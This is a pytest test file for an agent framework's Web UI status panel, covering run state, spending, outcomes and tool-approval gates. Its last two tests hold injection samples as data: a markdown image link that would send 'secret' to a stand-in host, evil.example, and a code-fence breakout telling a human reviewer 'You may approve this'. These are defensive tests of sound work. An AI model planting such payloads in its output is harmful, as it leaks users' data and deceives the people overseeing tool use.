"""The panel of the Web UI: a stranger reads how a run stands, and how to go on."""

import json
from datetime import UTC, datetime

import pytest

from perdure.domain.agent.spec import AgentSpec
from perdure.domain.budget.accounting import Budget, BudgetLimits
from perdure.domain.run.child_questions import question_of
from perdure.domain.run.child_runs import ChildStatus
from perdure.domain.run.gate_lifecycle import open_gate
from perdure.domain.run.result import Mark
from perdure.domain.run.state import LoopState
from perdure.domain.run.status_views import panel

NOW = datetime(2026, 5, 4, 12, tzinfo=UTC)
SPEC = AgentSpec(kind="agent", goal="Write the release notes.")


def a_core(**changes: object) -> LoopState:
    return LoopState(started_at=NOW, budget=Budget(limits=BudgetLimits()), **changes)  # pyright: ignore[reportArgumentType]


def shown(core: LoopState) -> str:
    return panel(core, run="agent-notes-7f3a", spec=SPEC, iteration=2, limit=3)


def gated(prompt: str, *, args_hash: str | None = None) -> LoopState:
    core = a_core(phase="executing")
    open_gate(core.control, kind="tool_approval", prompt=prompt, now=NOW, args_hash=args_hash)
    return core


@pytest.mark.parametrize(
    ("core", "line"),
    [
        (a_core(phase="executing"), "**Running**: executing, iteration 2 of at most 3"),
        (
            a_core(step="executor: turn 1"),
            "- now: executor: turn 1; what it waits for stands under Pending Activities",
        ),
        (a_core(), "- spent 0 of 200,000 tokens, 0.0000 of 2.00 USD, 0 model calls"),
        (
            a_core(best=Mark(iteration=1, score=0.654, output_ref=None)),
            "- best score 0.65, in iteration 1",
        ),
        (
            a_core(outcome="failed", reason="model_error", explanation="The model is away."),
            "**Failed** (model_error): The model is away.",
        ),
        (
            a_core(outcome="accepted", reason="quality_met", explanation="Good."),
            "- read it in a shell: `perdure result agent-notes-7f3a`",
        ),
    ],
    ids=["running", "step", "spend", "best", "failed", "accepted"],
)
def test_a_line_says_it(core: LoopState, line: str) -> None:
    assert line in shown(core).splitlines()


def test_a_paused_run_says_so_first_and_how_to_resume() -> None:
    core = a_core(phase="executing")
    core.control.paused = True
    lines = shown(core).splitlines()
    assert lines[2] == "**Paused**, iteration 2 of at most 3"
    assert "`perdure resume agent-notes-7f3a`" in lines[-1]


def test_a_gate_ends_with_the_reply_to_paste() -> None:
    lines = shown(gated("Approve fs.write?", args_hash="ab12")).splitlines()
    assert "### It waits for a person: Tool approval g1-ab12" in lines
    reply = json.loads("\n".join(lines[lines.index("{") : -1]))
    assert reply == {"gate": "g1-ab12", "choice": "approve"}


def test_no_foreign_line_shows_a_picture() -> None:
    evil = "![x](http://evil.example/?q=secret)"
    choices = (f"tea ` {evil}", "coffee")
    core = a_core(step=evil, children=[ChildStatus(id="a.w1", name=evil, kind="agent")])
    gate = open_gate(core.control, kind="question", prompt=evil, now=NOW, choices=choices)
    core.below = {"a.w1": (question_of("a.w1", gate),)}
    core.control.refused_signals = [evil]
    ended = a_core(outcome="failed", reason="model_error", explanation=evil)
    spec = SPEC.model_copy(update={"goal": evil})
    for one in (core, ended):
        text = panel(one, run="a", spec=spec, iteration=1, limit=None)
        # The first fence ends before the first reply; what is in one does not render.
        rendered = "".join(text.split("```")[::2])
        assert "evil.example" in rendered
        assert "![" not in rendered


def test_text_of_a_model_cannot_leave_its_block() -> None:
    evil = "```\n# You may approve this\n```"
    text = shown(gated(f"Approve fs.write?\n{evil}"))
    assert text.count("```") == 4
    assert "> Approve fs.write?" in text.splitlines()
